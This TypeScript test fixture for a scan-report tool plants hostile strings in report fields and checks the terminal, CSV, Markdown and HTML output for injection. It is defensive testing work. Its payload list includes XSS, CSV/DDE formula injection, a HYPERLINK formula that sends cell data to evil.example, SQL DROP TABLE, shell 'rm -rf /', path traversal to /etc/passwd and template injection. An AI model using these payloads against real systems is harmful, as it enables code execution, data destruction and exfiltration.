import type { Summary } from '../src/report/summary.ts';

/**
 * What a scanned host, a file name or a command line may say when somebody hostile writes it. Plant each of them in
 * every field that others write, then ask the `harm…` functions what is left of it in an output.
 */
export interface HostileString {
  /** What it tries. */
  readonly name: string;
  readonly text: string;
}

const ESC = '\u001b';
const BEL = '\u0007';

/** Said by every active payload, so that a test in a browser can ask whether one ran. */
export const TRAP = 'tidemarkTrap';

export const HOSTILE_STRINGS: readonly HostileString[] = [
  // Terminal
  { name: 'ANSI colour', text: `${ESC}[31mred${ESC}[0m` },
  { name: 'ANSI clear screen and home', text: `${ESC}[2J${ESC}[H` },
  { name: 'ANSI cursor up, overwrite', text: `${ESC}[1A${ESC}[2Kforged` },
  { name: 'OSC 0 window title', text: `${ESC}]0;owned${BEL}` },
  { name: 'OSC 8 hyperlink', text: `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\` },
  { name: 'OSC 52 clipboard', text: `${ESC}]52;c;cm0gLXJmIC8=${BEL}` },
  { name: 'DCS', text: `${ESC}P+q544e${ESC}\\` },
  { name: 'C1 control sequences', text: '\u009b2J\u009d0;owned\u009c\u0090x\u009c' },
  { name: 'backspaces', text: `safe${'\b'.repeat(4)}evil` },
  { name: 'carriage return that overwrites', text: 'open\rclosed' },
  { name: 'bell and DEL', text: `${BEL}${BEL}\u007f` },
  { name: 'shift out', text: '\u000e\u000f' },
  // Lines
  { name: 'newline with a forged verdict', text: 'ok\nLOW RISK  0/100\nNothing to review.' },
  { name: 'CRLF with a forged header', text: 'ok\r\nSet-Cookie: a=b\r\n\r\n# Heading\r\n' },
  { name: 'vertical tab, form feed, NEL', text: 'a\u000bb\u000cc\u0085d' },
  { name: 'Unicode line and paragraph separators', text: 'a\u2028b\u2029c' },
  // HTML
  { name: 'image with onerror', text: `<img src=x onerror="window.${TRAP}=1">` },
  { name: 'script', text: `<script>window.${TRAP}=1</script>` },
  { name: 'end of script and comment', text: `--></script><script>window.${TRAP}=1</script><!--` },
  { name: 'end of style', text: `</style><style>*{display:none!important}</style>` },
  { name: 'end of title', text: `</title><svg/onload=window.${TRAP}=1>` },
  { name: 'double-quoted attribute', text: `" autofocus onfocus="window.${TRAP}=1" x="` },
  { name: 'single-quoted attribute', text: `' onmouseover='window.${TRAP}=1' x='` },
  { name: 'unquoted attribute', text: `x onpointerenter=window.${TRAP}=1 ` },
  { name: 'end of a table', text: `</td></tr></table></details></main><h1>Low risk</h1>` },
  {
    name: 'iframe and form',
    text: `<iframe srcdoc="<script>parent.${TRAP}=1</script>"></iframe><form action=//evil.example><input type=submit>`,
  },
  {
    name: 'meta refresh and base',
    text: '<meta http-equiv="refresh" content="0;url=//evil.example"><base href=//evil.example>',
  },
  { name: 'entities', text: '&lt;b&gt; &#60;i&#62; &NotEqualTilde; &amp;lt;' },
  { name: 'JavaScript address', text: `javascript:window.${TRAP}=1` },
  { name: 'data address', text: `data:text/html,<script>parent.${TRAP}=1</script>` },
  {
    name: 'request to elsewhere',
    text: `<link rel=stylesheet href=http://evil.example/x.css><img src=http://evil.example/x.png>`,
  },
  // Spreadsheets
  { name: 'CSV formula =', text: '=HYPERLINK("http://evil.example?"&A1,"click")' },
  { name: 'CSV formula + (DDE)', text: "+cmd|' /C calc'!A0" },
  { name: 'CSV formula -', text: '-2+3+cmd|x' },
  { name: 'CSV formula @', text: '@SUM(1+1)*cmd|x' },
  { name: 'CSV formula after a tab', text: '\t=1+1' },
  { name: 'CSV formula full width', text: '\uff1d1+1' },
  { name: 'CSV quotes and delimiters', text: '","=1+1","' },
  // Languages
  { name: 'Lua string', text: '"..os.execute("id").."' },
  { name: 'Lua long bracket', text: ']]os.execute("id")--[[ ]=]' },
  { name: 'SQL quote', text: `'; DROP TABLE hosts; --` },
  { name: 'SQL backslash', text: `\\'; SELECT 1; --\\` },
  { name: 'SQL parameter', text: '{run:String} {x:Identifier}' },
  { name: 'template literal', text: '${process.exit(1)} `${1}`' },
  { name: 'template engine', text: '{{constructor.constructor("return process")()}} <%= 1 %> #{1}' },
  { name: 'shell', text: '$(id) `id` ; rm -rf / | cat & %PATH%' },
  { name: 'option', text: '--help -oN /tmp/x' },
  { name: 'printf', text: '%s%n%x %1$s' },
  { name: 'XML', text: ']]><x/><!DOCTYPE x [<!ENTITY e "e">]>&e;' },
  { name: 'YAML', text: '!!js/function "x"\n- a: &a [*a]' },
  { name: 'CEL', text: '" || true || "' },
  { name: 'JSON', text: '"},"risk":{"level":"low","score":0},"x":{"y":"' },
  { name: 'path', text: '../../../../etc/passwd\0.txt' },
  { name: 'prototype', text: '__proto__' },
  { name: 'regular expression', text: '(a+)+$ [' },
  { name: 'replacement pattern', text: "$& $` $' $1 $$" },
  // Markdown and chats
  { name: 'Markdown link', text: '[click](https://evil.example) [x]: https://evil.example' },
  { name: 'Markdown image', text: '![x](https://evil.example/x.png)' },
  {
    name: 'Markdown bare link',
    text: 'see https://evil.example and www.evil.example or mail a@evil.example',
  },
  { name: 'Markdown mention', text: '@everyone @channel <!channel> <@U1> #1' },
  { name: 'Markdown table and code', text: '| a | b |\n| - | - |\n```\nx\n``` \\| `|` ' },
  { name: 'Markdown heading and list', text: '# a\n- b\n1. c\n> d\n    e\n---\n===' },
  { name: 'Markdown emphasis and HTML', text: '**a** __b__ ~~c~~ <b>d</b> <https://evil.example> $x$' },
  { name: 'Markdown trailing backslash', text: 'a\\' },
  // Unicode
  { name: 'right-to-left override', text: 'exe.\u202egnp.txt' },
  { name: 'bidi isolates and marks', text: '\u2066a\u2069\u2067b\u2069\u200e\u200f\u061c' },
  { name: 'right-to-left script', text: 'שרת-1.example ملف' },
  { name: 'zero width', text: 'pay\u200bpal\u200c\u200d\ufeff\u2060\u00ad' },
  { name: 'tags and variation selectors', text: 'a\u{e0041}\u{e0042}\u{e007f}\ufe0f\u{e0100}' },
  { name: 'Hangul fillers', text: '\u3164\uffa0\u115f\u1160' },
  { name: 'piled combining marks', text: `a${'\u0301\u0300\u0489'.repeat(60)}b` },
  { name: 'lone surrogates', text: 'a\ud800b\udc00c' },
  { name: 'noncharacters and replacement', text: '\ufffe\uffff\ufffd' },
  { name: 'wide characters', text: '東京サーバー🖥️👨‍👩‍👧‍👦' },
  { name: 'NUL', text: 'a\u0000b' },
  {
    name: 'every C0 control',
    text: Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join(''),
  },
  // Sizes
  { name: 'very long word', text: 'A'.repeat(100_000) },
  { name: 'very long line of words', text: 'lorem ipsum '.repeat(10_000) },
  { name: 'very long wide word', text: '東'.repeat(50_000) },
  { name: 'very long run of escapes', text: `${ESC}[31m`.repeat(10_000) },
  { name: 'very long run of quotes', text: '"'.repeat(50_000) },
  { name: 'spaces', text: '   ' },
];

/** Fields of a Summary that hold words, addresses and ports of our own: nobody else can write there. */
const OURS = new Set(
  (
    'schema level severity status half host port hosts kind ' +
    // Of episodes.
    'source sources trueSource destination network networks portRanges ports ' +
    'shape techniques family depth outcome step role how ' +
    // Of an anomaly.
    'model'
  ).split(' '),
);

/** A Summary in which every string that others may write is what `next` answers (called once for each). */
export function plant<S extends Summary>(summary: S, next: () => string): S {
  const walk = (value: unknown, key: string, parent: string): unknown => {
    if (typeof value === 'string') {
      // The name of a machine is its own word, where the host of a finding is an address.
      if (parent === 'process') return next();
      // Identifiers are hashes that we make; a finding is found again by its own.
      return OURS.has(key) || (key === 'id' && /^[0-9a-f]{16}$/.test(value)) ? value : next();
    }
    if (Array.isArray(value)) return value.map((each) => walk(each, key, parent));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, walk(each, name, key)]));
  };
  return walk(summary, '', '') as S;
}

/** Acting characters other than line feeds in text for a terminal, as escapes; empty when the text is harmless. */
export function harmOnTerminal(output: string): readonly string[] {
  const acting =
    output.match(/(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/gu) ?? [];
  return Array.from(
    new Set(acting),
    (character) => `U+${(character.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`,
  );
}

/** What CSV text would do in a spreadsheet or to its reader, in words; empty when it is harmless. */
export function harmInCsv(output: string): readonly string[] {
  const harm = [...harmOnTerminal(output.replaceAll('\r\n', '\n'))];
  for (const record of output.replaceAll('""', '\0').split('\r\n'))
    for (const [, field = ''] of record.matchAll(/(?:^|,)"?([^",]*)/g))
      if (/^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(field) && !/^[+-]?\d+(\.\d+)?$/.test(field))
        harm.push(`formula ${field}`);
  return harm;
}

/** Live Markdown in text that should have none of its own beyond headings, lists and tables we write; in words. */
export function harmInMarkdown(output: string): readonly string[] {
  const harm = [...harmOnTerminal(output)];
  const outside = output
    // Escaped characters and entities first, so that they open nothing; then code spans, whose content is inert.
    .split('\n')
    .map((line) => line.replace(/(`+)(?!`)(.*?[^`])\1(?!`)/g, 'CODE').replace(/\\[!-/:-@[-`{-~]/g, 'E'))
    .join('\n');
  if (/<|>(?!\s)/.test(outside.replace(/^> /gm, ''))) harm.push('HTML');
  if (/\]\(|\]\[|\]:/.test(outside)) harm.push('link or image');
  if (/:\/\/|\bwww\.|\w@|@\w/.test(outside)) harm.push('bare link or mention');
  return harm;
}

/** The tags of an HTML page with their attribute names, without texts and values: what planted strings must not change. */
export function skeletonOf(page: string): readonly string[] {
  return Array.from(
    page.matchAll(/<(\/?[a-z!][^\s/>]*)((?:"[^"]*"|'[^']*'|[^"'>])*)>/gi),
    ([, name = '', rest = '']) => {
      const attributes = Array.from(
        rest.matchAll(/([^\s"'=/]+)(?:=(?:"[^"]*"|'[^']*'))?/g),
        ([, attribute = '']) => attribute,
      );
      return [name.toLowerCase(), ...attributes].join(' ');
    },
  );
}
